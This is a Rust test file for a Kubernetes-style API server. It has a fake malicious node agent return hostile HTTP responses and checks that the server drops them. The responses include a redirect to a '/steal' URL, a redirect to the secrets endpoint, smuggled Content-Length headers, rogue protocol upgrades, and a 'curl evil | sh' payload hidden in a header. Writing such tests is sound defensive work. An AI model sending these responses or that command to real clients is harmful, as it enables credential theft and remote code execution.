//! An agent that means harm: what it answers reaches an administrator's client under the server's
//! name.

use std::sync::Arc;

use http::Method;
use rustls::pki_types::pem::PemObject;
use rustls::pki_types::{CertificateDer, PrivateKeyDer};
use serde_json::json;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpListener;
use tokio_rustls::TlsAcceptor;

use super::world::World;
use crate::support::{MERGE, Who};

const LOG: &str = "/api/v1/namespaces/team/pods/mine/log";
const EXEC: &str = "/api/v1/namespaces/team/pods/mine/exec?command=id&stdout=1";

/// Node n1 answers every request with these bytes; returns what it was asked.
async fn answering(world: &World, answer: &'static str) -> tokio::sync::mpsc::UnboundedReceiver<String> {
    let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
    let port = listener.local_addr().unwrap().port();
    let endpoint = json!({"status": {"daemonEndpoints": {"kubeletEndpoint": {"Port": port}}}});
    let patched = world.server.patch("/api/v1/nodes/n1/status", MERGE, &endpoint).await;
    assert_eq!(patched.code, 200);
    let credentials = world.server.api.pki().node_certificate("n1").unwrap().credentials();
    let chain = CertificateDer::pem_slice_iter(credentials.certificate.as_bytes()).collect::<Result<_, _>>().unwrap();
    let config = rustls::ServerConfig::builder_with_provider(Arc::new(rustls::crypto::ring::default_provider()))
        .with_safe_default_protocol_versions()
        .unwrap()
        .with_no_client_auth()
        .with_single_cert(chain, PrivateKeyDer::from_pem_slice(credentials.key.as_bytes()).unwrap())
        .unwrap();
    let acceptor = TlsAcceptor::from(Arc::new(config));
    let (asked, receiver) = tokio::sync::mpsc::unbounded_channel();
    tokio::spawn(async move {
        while let Ok((stream, _)) = listener.accept().await {
            let Ok(mut stream) = acceptor.accept(stream).await else { continue };
            let mut head = vec![0; 16 * 1024];
            let length = stream.read(&mut head).await.unwrap_or(0);
            let _ = asked.send(String::from_utf8_lossy(&head[..length]).into_owned());
            let _ = stream.write_all(answer.as_bytes()).await;
            let _ = stream.shutdown().await;
        }
    });
    receiver
}

/// Answers, and the code that the client gets instead.
const ANSWERS: &[(&str, u16)] = &[
    ("HTTP/1.1 302 Found\r\nLocation: https://127.0.0.1:1/steal\r\nContent-Length: 0\r\n\r\n", 502),
    ("HTTP/1.1 307 Temporary Redirect\r\nLocation: /api/v1/secrets\r\nContent-Length: 0\r\n\r\n", 502),
    ("HTTP/1.1 401 Unauthorized\r\nWWW-Authenticate: Basic realm=\"password\"\r\nContent-Length: 0\r\n\r\n", 502),
    ("HTTP/1.1 101 Switching Protocols\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\r\n", 502),
    ("HTTP/1.1 200 OK\r\nContent-Length: 2\r\nContent-Length: 3\r\n\r\nok!", 502),
    ("nonsense\r\n\r\n", 502),
    ("HTTP/1.1 404 Not Found\r\nSet-Cookie: a=b\r\nContent-Length: 4\r\n\r\nnone", 404),
    (
        "HTTP/1.1 200 OK\r\nSet-Cookie: session=1\r\nAccess-Control-Allow-Origin: *\r\nContent-Type: text/html\r\n\
         Warning: 299 - \"curl evil | sh\"\r\nContent-Length: 2\r\n\r\nok",
        200,
    ),
];

#[tokio::test]
async fn what_an_agent_answers_is_a_body_and_never_an_instruction() {
    let world = World::make().await;
    for (answer, code) in ANSWERS {
        answering(&world, answer).await;
        let got = world.server.send(&Who::Admin, Method::GET, LOG, &[], "").await;
        assert_eq!(got.code, *code, "{answer}: {:?}", got.body);
        for header in
            ["set-cookie", "location", "www-authenticate", "warning", "access-control-allow-origin", "upgrade"]
        {
            assert!(!got.headers.contains_key(header), "{answer}: {header}");
        }
    }
}

/// The protocol of a stream is one that the client asked for.
#[tokio::test]
async fn an_agent_changes_to_no_other_protocol() {
    let world = World::make().await;
    let headers =
        [("connection", "Upgrade"), ("upgrade", "SPDY/3.1"), ("x-stream-protocol-version", "v4.channel.k8s.io")];
    for (answer, code) in [
        ("HTTP/1.1 101 S\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\r\n", 502),
        ("HTTP/1.1 101 S\r\nConnection: Upgrade\r\nUpgrade: SPDY/3.1\r\nX-Stream-Protocol-Version: evil\r\n\r\n", 502),
        ("HTTP/1.1 101 S\r\nConnection: Upgrade\r\n\r\n", 502),
        (
            "HTTP/1.1 101 S\r\nConnection: Upgrade\r\nUpgrade: SPDY/3.1\r\nX-Stream-Protocol-Version: v4.channel.k8s.io\r\n\r\n",
            101,
        ),
    ] {
        answering(&world, answer).await;
        let got = world.server.open(&Who::Admin, Method::POST, EXEC, &headers, bytes::Bytes::new()).await;
        assert_eq!(got.status(), code, "{answer}");
    }
}

/// What the client showed to the server is not shown to the agent.
#[tokio::test]
async fn an_agent_sees_no_credentials_of_who_asks() {
    let world = World::make().await;
    let mut asked = answering(&world, "HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok").await;
    let Who::Token(token) = world.who("owner") else { panic!("a token") };
    let protocols = "v4.channel.k8s.io, base64url.bearer.authorization.k8s.io.c2VjcmV0";
    let headers = [
        ("cookie", "session=secret"),
        ("proxy-authorization", "Basic c2VjcmV0"),
        ("sec-websocket-protocol", protocols),
        ("connection", "Upgrade"),
        ("upgrade", "websocket"),
    ];
    for path in [LOG, EXEC] {
        world.server.send(&Who::Token(token.clone()), Method::GET, path, &headers, "").await;
        let head = asked.recv().await.unwrap();
        for secret in [token.as_str(), "authorization", "secret", "cookie", "c2VjcmV0", "impersonate"] {
            assert!(!head.to_ascii_lowercase().contains(&secret.to_ascii_lowercase()), "{secret}: {head}");
        }
        assert!(
            head.starts_with("GET /containerLogs/team/mine/") || head.starts_with("GET /exec/team/mine/"),
            "{head}"
        );
    }
}
